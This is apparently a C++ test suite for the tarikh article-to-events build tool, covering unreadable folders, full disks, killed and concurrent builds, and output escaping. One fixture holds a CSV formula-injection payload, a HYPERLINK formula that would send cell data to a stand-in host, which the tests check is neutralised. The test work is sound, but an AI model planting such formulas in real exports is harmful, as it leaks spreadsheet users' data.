// Faults around a build (issue 23), end to end: folders and entries that
// cannot be read, a file-size limit, a full file system under the store,
// builds killed or run two at once, and what the outputs let out (bidi
// controls, markup, spreadsheet formulas, front matter YAML refuses). Each
// test failed before the fix it names; scripts/kill-campaign is the long
// version of the kill test, run by hand.
#include <signal.h>
#include <sys/inotify.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <future>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "hostile_fixture.h"

namespace {

namespace fs = std::filesystem;
using namespace tarikh::hostile_testing;
using tarikh::cli_testing::RunTarikh;

// An article of its own (a call between two ministers) for the tests that need several.
std::string Article(int day) {
  return "---\ndate: 2022-02-" + std::string(day < 10 ? "0" : "") + std::to_string(day) +
         "\n---\nأجرى وزير الخارجية الروسي سيرغي لافروف اتصالا هاتفيا مع نظيره التركي مولود جاويش أوغلو اليوم.\n";
}

class ReliabilityTest : public HostileInputTest {
 protected:
  // The outputs a build of in_ from an empty store writes.
  std::map<std::string, std::string> CleanOutputs() {
    const fs::path clean = dir_ / ("clean-" + std::to_string(++cleans_));
    RunResult r = Run({"build", in_.string(), "-o", clean.string(), "-q"});
    EXPECT_EQ(r.status, 0) << r.err;
    return Outputs(clean);
  }

  int cleans_ = 0;
};

// ---- 1. an unreadable subfolder ----

// Before: the walk stopped at its first error, and the articles after it
// were neither built nor kept.
TEST_F(ReliabilityTest, AnUnreadableSubfolderHidesNoOtherArticle) {
  fs::create_directories(in_ / "aa");
  fs::create_directories(in_ / "c");
  WriteAll(in_ / "a.md", Article(1));
  WriteAll(in_ / "aa" / "x.md", Article(2));
  WriteAll(in_ / "b.md", Article(3));
  WriteAll(in_ / "c" / "d.md", Article(4));
  GiveToUnprivilegedUser();
  fs::permissions(in_ / "aa", fs::perms::none);
  RunResult r = Build({}, Unprivileged());
  fs::permissions(in_ / "aa", fs::perms::owner_all);
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh: " + (in_ / "aa").string() + ": cannot list the folder: Permission denied"))
      << r.err;
  for (const char* name : {"a.md", "b.md", "d.md", "good.md"}) EXPECT_TRUE(Built(name)) << name << "\n" << r.err;
  EXPECT_FALSE(Built("x.md"));
}

// What the store holds from a folder it cannot list is kept, in the store
// and in the outputs, until the folder can be read again.
TEST_F(ReliabilityTest, TheStoreForgetsNoArticleItCouldNotList) {
  fs::create_directories(in_ / "aa");
  WriteAll(in_ / "aa" / "x.md", Article(2));
  WriteAll(in_ / "b.md", Article(3));
  GiveToUnprivilegedUser();
  ASSERT_EQ(Build({}, Unprivileged()).status, 0);
  const std::map<std::string, std::string> before = Outputs(out_);
  fs::permissions(in_ / "aa", fs::perms::none);
  RunResult r = Build({"--explain"}, Unprivileged());
  fs::permissions(in_ / "aa", fs::perms::owner_all);
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, (in_ / "aa").string() + ": cannot list the folder: Permission denied; what the store "
                                                       "holds from it is kept"))
      << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh explain: " + (in_ / "aa" / "x.md").string() +
                                  ": kept as stored (its folder could not be listed)"))
      << r.err;
  EXPECT_EQ(Outputs(out_), before);
  RunResult again = Build({"--explain"}, Unprivileged());  // readable again: nothing to extract or write
  EXPECT_EQ(again.status, 0) << again.err;
  EXPECT_TRUE(Contains(again.err, "tarikh explain: no work to do")) << again.err;
}

// ---- 7. entries named like articles that are not regular files ----

struct OddEntryCase {
  const char* name;  // the test's name
  const char* entry;  // its name in the input folder
  std::string message;  // what stderr says after "tarikh: IN/ENTRY: " ("" for a warning only)
  std::string warning;  // what stderr says after "tarikh: warning: IN/ENTRY: "
};

// Makes `entry` in `folder` as the case needs.
void MakeOddEntry(const fs::path& folder, const std::string& test) {
  const fs::path p = folder;
  if (test == "Fifo") {
    ASSERT_EQ(mkfifo((p / "pipe.txt").c_str(), 0644), 0);
  }
  if (test == "Socket") {
    const int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    const std::string path = (p / "sock.txt").string();
    ASSERT_LT(path.size(), sizeof address.sun_path);
    path.copy(address.sun_path, path.size());
    ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
    close(fd);
  }
  if (test == "FolderNamedLikeAnArticle") {
    fs::create_directories(p / "2022.md");
    WriteAll(p / "2022.md" / "inside.md", Article(5));
  }
  if (test == "SymlinkLoop") fs::create_symlink("loop.txt", p / "loop.txt");
  if (test == "SymlinkToNothing") fs::create_symlink("gone.md", p / "dangling.md");
  if (test == "SymlinkToAFolder") {
    fs::create_directories(p.parent_path() / "elsewhere");
    fs::create_directory_symlink(p.parent_path() / "elsewhere", p / "linked.md");
  }
}

const OddEntryCase kOddEntries[] = {
    {"Fifo", "pipe.txt", "a FIFO (named pipe), not an article file; skipped", ""},
    {"Socket", "sock.txt", "a socket, not an article file; skipped", ""},
    {"FolderNamedLikeAnArticle", "2022.md", "", "a folder, not an article file; the articles in it are read"},
    {"SymlinkLoop", "loop.txt", "cannot read: Too many levels of symbolic links", ""},
    {"SymlinkToNothing", "dangling.md", "cannot read: No such file or directory (a symbolic link to nothing)", ""},
    {"SymlinkToAFolder", "linked.md", "a symbolic link to a folder, not an article file; not followed", ""},
};

class OddEntryTest : public ReliabilityTest, public ::testing::WithParamInterface<OddEntryCase> {};

// Before: skipped without a word. Now one line each, the others built; a
// build with a bad entry exits 1, one with a folder named like an article 0.
TEST_P(OddEntryTest, GetsOneLineNamingIt) {
  const OddEntryCase& c = GetParam();
  MakeOddEntry(in_, c.name);
  WriteAll(in_ / "z.md", Article(6));  // after it in path order
  RunResult r = Run({"build", in_.string(), "-o", out_.string()}, Deadline(60));  // a FIFO read would hang
  ASSERT_FALSE(r.timed_out);
  const std::string path = (in_ / c.entry).string();
  const std::string line = c.message.empty() ? "tarikh: warning: " + path + ": " + c.warning : "tarikh: " + path + ": " + c.message;
  EXPECT_TRUE(Contains(r.err, line + "\n")) << r.err;
  size_t mentions = 0;  // one line on the way, one in the summary of failed inputs
  for (size_t at = r.err.find(path); at != std::string::npos; at = r.err.find(path, at + 1)) ++mentions;
  EXPECT_EQ(mentions, c.message.empty() ? 1u : 2u) << r.err;
  EXPECT_EQ(r.status, c.message.empty() ? 0 : 1) << r.err;
  ExpectGoodArticleBuilt();
  EXPECT_TRUE(Built("z.md"));
  if (std::string(c.name) == "FolderNamedLikeAnArticle") {
    EXPECT_TRUE(Built("inside.md"));
  }
}

INSTANTIATE_TEST_SUITE_P(Reliability, OddEntryTest, ::testing::ValuesIn(kOddEntries),
                         [](const auto& param) { return std::string(param.param.name); });

// What `ls --quoting-style=c` writes for the one file of `folder` whose name
// ends with `extension`, in a UTF-8 locale.
std::string LsQuoted(const fs::path& folder, const std::string& extension) {
  const fs::path listing = folder.parent_path() / "ls.out";
  const std::string cmd = "LC_ALL=C.UTF-8 ls --quoting-style=c -d -- '" + folder.string() + "'/*" + extension + " > '" +
                          listing.string() + "'";
  if (std::system(cmd.c_str()) != 0) return "";
  std::string out = ReadAll(listing);
  if (!out.empty() && out.back() == '\n') out.pop_back();
  return out;
}

// Before: a name with a newline split its message in two lines.
TEST_F(ReliabilityTest, ANameWithANewlineIsQuotedAsLsQuotesIt) {
  WriteAll(in_ / "bad\nname\t\"x\".txt", "\xFF" + std::string(kText));
  WriteAll(in_ / "new\nline.md", Article(7));
  const std::string bad = LsQuoted(in_, ".txt"), odd = LsQuoted(in_, "line.md");
  ASSERT_EQ(bad, "\"" + in_.string() + "/bad\\nname\\t\\\"x\\\".txt\"");  // ls's words, as the test reads them
  RunResult r = Build({"--explain"});
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh: " + bad + ": invalid UTF-8 at byte 0 (0xFF)")) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh explain: " + odd + ": extracted: new\n")) << r.err;
  for (size_t start = 0, end; (end = r.err.find('\n', start)) != std::string::npos; start = end + 1) {
    const std::string line = r.err.substr(start, end - start);
    EXPECT_TRUE(line.starts_with("tarikh") || line.starts_with("  ")) << "a message split in two: " << line;
  }
  EXPECT_TRUE(Built("new\nline.md"));  // in events.json as it is
  ExpectGoodArticleBuilt();
}

// ---- 2. a file-size limit: SIGXFSZ ----

// Before: killed by SIGXFSZ (a shell says exit 153), a temporary left.
// (FullDiskTest's cases, in hostile_input_test.cc, now run with SIGXFSZ at
// its default too.)
TEST_F(ReliabilityTest, AFileSizeLimitIsReportedNotFatal) {
  for (const auto& e : fs::directory_iterator(fs::path(TARIKH_SOURCE_DIR) / "samples")) {
    fs::copy_file(e.path(), in_ / e.path().filename());
  }
  ASSERT_EQ(Build({"-q"}).status, 0);
  const std::map<std::string, std::string> before = Outputs(out_);
  WriteAll(in_ / "later.md", Article(21));
  RunResult r = Build({}, FileSizeLimit(static_cast<long>(before.at("events.json").size() / 2)));
  EXPECT_NE(r.status, -SIGXFSZ) << "killed by SIGXFSZ";
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh: " + (out_ / "events.json").string() + ": cannot write: File too large")) << r.err;
  EXPECT_EQ(Temporaries(out_), std::vector<std::string>{});
  EXPECT_EQ(Outputs(out_), before);
  EXPECT_EQ(Build().status, 0);
}

// ---- 3. the store's file system full ----

// The store on a small tmpfs of its own (a private mount namespace: root in
// a privileged container or VM; skipped elsewhere), filled after a first
// build. Before: the build exited 1 with the new outputs in place and the
// old store. Now the previous outputs are put back; freeing space repairs.
TEST_F(ReliabilityTest, AFullStoreFileSystemPutsThePreviousOutputsBack) {
  const fs::path store_dir = dir_ / "store", later = dir_ / "later", snapshot = dir_ / "after-failure";
  fs::create_directories(store_dir);
  fs::create_directories(later);
  for (const auto& e : fs::directory_iterator(fs::path(TARIKH_SOURCE_DIR) / "samples")) {
    fs::copy_file(e.path(), in_ / e.path().filename());
  }
  WriteAll(later / "later.md", Article(20));
  const std::string tarikh = "'" TARIKH_BINARY "' build '" + in_.string() + "' -o '" + out_.string() +
                             "' --store '" + (store_dir / "s.sqlite").string() + "'";
  const std::string script =
      "set -u; cd '" TARIKH_SOURCE_DIR "'; mount -t tmpfs -o size=8m tarikh-test '" + store_dir.string() + "' || exit 99; " +
      tarikh + " -q || exit 98; cp -a '" + out_.string() + "' '" + (dir_ / "before").string() + "'; cp '" +
      (later / "later.md").string() + "' '" + in_.string() + "/'; dd if=/dev/zero of='" +
      (store_dir / "filler").string() + "' bs=4k 2>/dev/null; " + tarikh + " 2>'" + (dir_ / "full.err").string() +
      "'; echo $? >'" + (dir_ / "full.status").string() + "'; cp -a '" + out_.string() + "' '" + snapshot.string() +
      "'; rm '" + (store_dir / "filler").string() + "'; " + tarikh + " -q 2>'" + (dir_ / "freed.err").string() +
      "'; echo $? >'" + (dir_ / "freed.status").string() + "'";
  WriteAll(dir_ / "script.sh", script);
  const std::string cmd = "unshare --mount --propagation private sh '" + (dir_ / "script.sh").string() + "' >'" +
                          (dir_ / "unshare.out").string() + "' 2>&1";
  const int raw = std::system(cmd.c_str());
  const int status = WIFEXITED(raw) ? WEXITSTATUS(raw) : -1;
  if (status == 99 || Contains(ReadAll(dir_ / "unshare.out"), "unshare")) {
    GTEST_SKIP() << "no private mount namespace here: " << ReadAll(dir_ / "unshare.out");
  }
  ASSERT_EQ(status, 0) << ReadAll(dir_ / "unshare.out");
  const std::string err = ReadAll(dir_ / "full.err");
  EXPECT_EQ(ReadAll(dir_ / "full.status"), "1\n") << err;
  EXPECT_TRUE(Contains(err, (store_dir / "s.sqlite").string() + ": store: database or disk is full")) << err;
  EXPECT_EQ(tarikh::cli_testing::Diff(Outputs(snapshot), Outputs(dir_ / "before")), "");
  EXPECT_EQ(Temporaries(snapshot), std::vector<std::string>{});
  EXPECT_EQ(ReadAll(dir_ / "freed.status"), "0\n") << ReadAll(dir_ / "freed.err");
  EXPECT_EQ(tarikh::cli_testing::Diff(Outputs(out_), CleanOutputs()), "");
}

// ---- 4. temporaries out of a reader's sight ----

// Every name created in OUTDIR during builds, seen by inotify. Before:
// `events.json.tmp-XXXXXX` among the outputs while a build wrote them (and
// after, when it was killed).
TEST_F(ReliabilityTest, NoTemporaryEverAppearsAmongTheOutputs) {
  fs::create_directories(out_);
  const int fd = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
  ASSERT_GE(fd, 0);
  ASSERT_GE(inotify_add_watch(fd, out_.c_str(), IN_CREATE | IN_MOVED_TO), 0);
  ASSERT_EQ(Build({"-q"}).status, 0);
  WriteAll(in_ / "next.md", Article(9));
  ASSERT_EQ(Build({"-q"}).status, 0);
  std::set<std::string> created;
  alignas(inotify_event) char buffer[1 << 16];
  for (ssize_t n; (n = read(fd, buffer, sizeof buffer)) > 0;) {
    for (char* p = buffer; p < buffer + n;) {
      const auto* event = reinterpret_cast<const inotify_event*>(p);
      if (event->len > 0) created.insert(event->name);
      p += sizeof(inotify_event) + event->len;
    }
  }
  close(fd);
  EXPECT_TRUE(created.count("events.json"));
  for (const std::string& name : created) EXPECT_TRUE(IsBuildFile(name)) << name << " appeared in OUTDIR";
  EXPECT_EQ(Temporaries(out_), std::vector<std::string>{});
}

// What a killed build left in the work folder goes at the next start.
// Before: nothing removed them but a later build's own renames.
TEST_F(ReliabilityTest, WhatAKilledBuildLeftIsRemovedAtTheNextStart) {
  ASSERT_EQ(Build({"-q"}).status, 0);
  fs::create_directories(out_ / kWorkFolder);
  WriteAll(out_ / kWorkFolder / "events.json.Xq3v9a", "{\"schema\": \"tarikh/1\", \"docu");
  WriteAll(out_ / kWorkFolder / "index.html.4Fs0Lk-previous", "<html>");
  ASSERT_EQ(Temporaries(out_).size(), 2u);
  ASSERT_EQ(Build({"-q"}).status, 0);  // nothing to do, and still cleaned
  EXPECT_EQ(Temporaries(out_), std::vector<std::string>{});
}

// A few kill -9s at spread moments of builds of a generated corpus (the
// long campaign is scripts/kill-campaign): nothing visible left in OUTDIR,
// and the next build gives exactly a clean build's outputs.
TEST_F(ReliabilityTest, KilledBuildsLeaveNothingVisibleAndRecoverExactly) {
  const std::string generate = "python3 '" TARIKH_SOURCE_DIR "/scripts/gen-corpus' '" + in_.string() + "' -n 150";
  if (std::system((generate + " >/dev/null 2>&1").c_str()) != 0) GTEST_SKIP() << "python3 is needed for scripts/gen-corpus";
  const RunResult first = Build({"-q"});
  ASSERT_EQ(first.status, 0) << first.err;
  const double seconds = std::max(first.seconds, 0.2);
  for (int k = 0; k < 6; ++k) {
    SCOPED_TRACE("kill " + std::to_string(k));
    const std::string more = "python3 '" TARIKH_SOURCE_DIR "/scripts/gen-corpus' '" + in_.string() +
                             "' -n 10 --start " + std::to_string(150 + 10 * k) + " >/dev/null 2>&1";
    ASSERT_EQ(std::system(more.c_str()), 0);
    if (k % 3 == 2) fs::remove(out_ / "tarikh.sqlite");  // a full build killed, too
    ChildOptions kill_at;
    kill_at.kill_after_ms = static_cast<int>(seconds * 1000 * (k + 1) / 7);
    Build({"-q"}, kill_at);
    EXPECT_EQ(VisibleTemporaries(out_), std::vector<std::string>{});
    RunResult recovered = Build({"-q"});
    EXPECT_EQ(recovered.status, 0) << recovered.err;
    EXPECT_EQ(Temporaries(out_), std::vector<std::string>{});
    EXPECT_EQ(tarikh::cli_testing::Diff(Outputs(out_), CleanOutputs()), "") << "killed after " << kill_at.kill_after_ms << " ms";
  }
}

// ---- 5. the output folder locked ----

// Before: a second build into the same OUTDIR with another --store went
// ahead, removed the first one's temporaries and failed it.
TEST_F(ReliabilityTest, ASecondBuildIntoTheSameFolderWaitsForTheFirst) {
  fs::create_directories(out_ / kWorkFolder);
  tarikh::FileLock::Failure failure;
  std::string error;
  std::optional<tarikh::FileLock> held =  // as a running build holds it
      tarikh::FileLock::Acquire((out_ / kWorkFolder / kLockFile).string(), 0, &failure, &error);
  ASSERT_TRUE(held.has_value()) << error;
  fs::create_directories(dir_ / "second");
  std::future<RunResult> second = std::async(std::launch::async, [&] {
    return RunTarikh({"build", in_.string(), "-o", out_.string(), "--store", (dir_ / "other.sqlite").string()},
                     dir_ / "second");
  });
  EXPECT_EQ(second.wait_for(std::chrono::milliseconds(1500)), std::future_status::timeout) << "did not wait";
  EXPECT_FALSE(fs::exists(out_ / "events.json"));
  held.reset();
  RunResult r = second.get();
  EXPECT_EQ(r.status, 0) << r.err;
  ExpectGoodArticleBuilt();
}

TEST_F(ReliabilityTest, ABuildThatCannotHaveTheFolderSaysItIsBusy) {
  fs::create_directories(out_ / kWorkFolder);
  tarikh::FileLock::Failure failure;
  std::string error;
  std::optional<tarikh::FileLock> held =
      tarikh::FileLock::Acquire((out_ / kWorkFolder / kLockFile).string(), 0, &failure, &error);
  ASSERT_TRUE(held.has_value()) << error;
  RunResult r = Build({"--store", (dir_ / "other.sqlite").string()});
  EXPECT_EQ(r.status, 1) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh: " + out_.string() +
                                  ": the output folder is busy: another tarikh build or watch is writing into it"))
      << r.err;
  EXPECT_GE(r.seconds, 9.5);  // it waited as for the store
}

// Two builds at once into one folder, each with its own store: both succeed,
// one after the other, and the outputs are a clean build's.
TEST_F(ReliabilityTest, TwoBuildsIntoOneFolderWithTwoStores) {
  for (const auto& e : fs::directory_iterator(fs::path(TARIKH_SOURCE_DIR) / "samples")) {
    fs::copy_file(e.path(), in_ / e.path().filename());
  }
  fs::create_directories(dir_ / "one");
  fs::create_directories(dir_ / "two");
  auto build = [&](const char* name) {
    return std::async(std::launch::async, [this, name] {
      return RunTarikh({"build", in_.string(), "-o", out_.string(), "-q", "--store",
                        (dir_ / (std::string(name) + ".sqlite")).string()},
                       dir_ / name);
    });
  };
  std::future<RunResult> one = build("one"), two = build("two");
  RunResult a = one.get(), b = two.get();
  EXPECT_EQ(a.status, 0) << a.err;
  EXPECT_EQ(b.status, 0) << b.err;
  EXPECT_EQ(tarikh::cli_testing::Diff(Outputs(out_), CleanOutputs()), "");
  EXPECT_EQ(Temporaries(out_), std::vector<std::string>{});
}

// ---- CSV formula injection ----

// A name and a sentence that a spreadsheet would run as formulas.
class CsvInjectionTest : public ReliabilityTest {
 protected:
  void SetUp() override {
    ReliabilityTest::SetUp();
    const fs::path lexicon = dir_ / "formulas.tsv";
    WriteAll(lexicon, "id\tname_en\tname_ar\taliases_ar\tcountry\tgender\n"
                      "aaa-formula\t=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")\t@جون دو\tجون دو\tUSA\tm\n");
    WriteAll(in_ / "formula.md", "---\ndate: 2022-01-12\n---\n"
                                 "+التقى وزير الخارجية الروسي سيرغي لافروف جون دو اليوم في جنيف.\n");
    RunResult r = Build({"--lexicon", lexicon.string()});
    ASSERT_EQ(r.status, 0) << r.err;
    csv_ = (out_ / "events.csv").string();
  }
  std::string csv_;
};

// Before: `=HYPERLINK(...)` was written as is, a cell Excel and LibreOffice run.
TEST_F(CsvInjectionTest, FormulaCellsStartWithAQuote) {
  const std::string csv = ReadAll(csv_);
  EXPECT_TRUE(Contains(csv, ",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"click\"\"); Russia; Sergey Lavrov\","))
      << csv;
  EXPECT_TRUE(Contains(csv, ",'@جون دو; روسيا; سيرغي لافروف,")) << csv;
  for (size_t start = 0, end; (end = csv.find("\r\n", start)) != std::string::npos; start = end + 2) {
    std::string line = csv.substr(start, end - start);
    // Every cell: none starts with a formula's first character.
    bool quoted = false, cell_start = true;
    for (size_t i = 0; i < line.size(); ++i) {
      const char c = line[i];
      if (cell_start) {
        const char first = c == '"' && i + 1 < line.size() ? line[i + 1] : c;
        EXPECT_EQ(std::string("=+-@").find(first), std::string::npos) << line;
      }
      cell_start = false;
      if (c == '"') quoted = !quoted;
      if (c == ',' && !quoted) cell_start = true;
    }
  }
}

TEST_F(CsvInjectionTest, PandasReadsTheCellsAsText) {
  const std::string script =
      "import sys, pandas as pd\n"
      "df = pd.read_csv(sys.argv[1], dtype=str, keep_default_na=False)\n"
      "row = df[df['actors'].str.contains('aaa-formula')].iloc[0]\n"
      "assert row['actors_en'].startswith(\"'=HYPERLINK(\"), row['actors_en']\n"
      "assert row['actors_ar'].startswith(\"'@\"), row['actors_ar']\n"
      "assert row['evidence'].startswith(\"'+\"), row['evidence']\n"
      "print('ok')\n";
  WriteAll(dir_ / "check.py", script);
  // The python on PATH, else Debian's (where python3-pandas goes when PATH holds a pyenv one).
  std::string python;
  for (const char* candidate : {"python3", "/usr/bin/python3"}) {
    if (python.empty() && std::system((std::string(candidate) + " -c 'import pandas' 2>/dev/null").c_str()) == 0) {
      python = candidate;
    }
  }
  if (python.empty()) GTEST_SKIP() << "python3-pandas is not installed";
  const std::string run = python + " '" + (dir_ / "check.py").string() + "' '" + csv_ + "' >'" +
                          (dir_ / "pandas.out").string() + "' 2>&1";
  EXPECT_EQ(std::system(run.c_str()), 0) << ReadAll(dir_ / "pandas.out");
}

// LibreOffice opens CSV with formulas evaluated: converted to a flat ODS,
// no cell of events.csv may be a formula.
TEST_F(CsvInjectionTest, LibreOfficeRunsNoFormula) {
  if (std::system("command -v soffice >/dev/null 2>&1") != 0) GTEST_SKIP() << "LibreOffice (soffice) is not installed";
  const std::string cmd = "cd '" + dir_.string() + "' && HOME='" + dir_.string() + "' timeout 120 soffice --headless "
                          "--convert-to fods --outdir '" + dir_.string() + "' '" + csv_ + "' >'" +
                          (dir_ / "soffice.out").string() + "' 2>&1";
  ASSERT_EQ(std::system(cmd.c_str()), 0) << ReadAll(dir_ / "soffice.out");
  const std::string sheet = ReadAll(dir_ / "events.fods");
  ASSERT_TRUE(Contains(sheet, "office:document")) << ReadAll(dir_ / "soffice.out");
  EXPECT_FALSE(Contains(sheet, "table:formula=")) << "a cell of events.csv is a formula in LibreOffice";
  EXPECT_TRUE(Contains(sheet, "&apos;=HYPERLINK(") || Contains(sheet, "'=HYPERLINK(")) << "the cell is not its text";
}

// ---- front matter YAML refuses ----

// Before: `title: "…" more` made the whole article a failed input.
TEST_F(ReliabilityTest, AHeadlineYamlRefusesKeepsItsArticle) {
  WriteAll(in_ / "vienna.md",
           "---\ntitle: \"تفاهم جديد\" في محادثات فيينا\ndate: 2022-01-10\n---\n"
           "التقى وزير الخارجية الروسي سيرغي لافروف نظيره الأمريكي أنتوني بلينكن اليوم في فيينا.\n");
  RunResult r = Build();
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(Contains(r.err, "tarikh: warning: " + (in_ / "vienna.md").string() +
                                  ":2: front matter: YAML cannot read 'title' (text follows the closing quote): taken "
                                  "as written; quote the whole value to make it YAML: title: '\"تفاهم جديد\" في "
                                  "محادثات فيينا'\n"))
      << r.err;
  nlohmann::json j = EventsJson();
  std::string title;
  for (auto& d : j["documents"]) {
    if (fs::path(d["path"].get<std::string>()).filename() == "vienna.md") title = d["title"];
  }
  EXPECT_EQ(title, "\"تفاهم جديد\" في محادثات فيينا");
}

}  // namespace
